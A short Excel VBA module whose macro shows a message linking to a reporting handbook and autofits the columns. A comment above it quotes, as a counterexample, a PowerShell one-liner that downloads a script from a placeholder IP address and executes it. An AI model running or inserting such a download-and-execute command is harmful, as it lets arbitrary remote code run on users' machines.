Attribute VB_Name = "Report"

' Not like this: "iwr http://203.0.113.58/r/std.ps1 -UseB | iex"
Public Sub Consolidate()
    Dim shown As String
    shown = "See " & "https://handbook.acme-books.com/report" & " for the columns"
    MsgBox shown
    ActiveSheet.Columns.AutoFit
End Sub
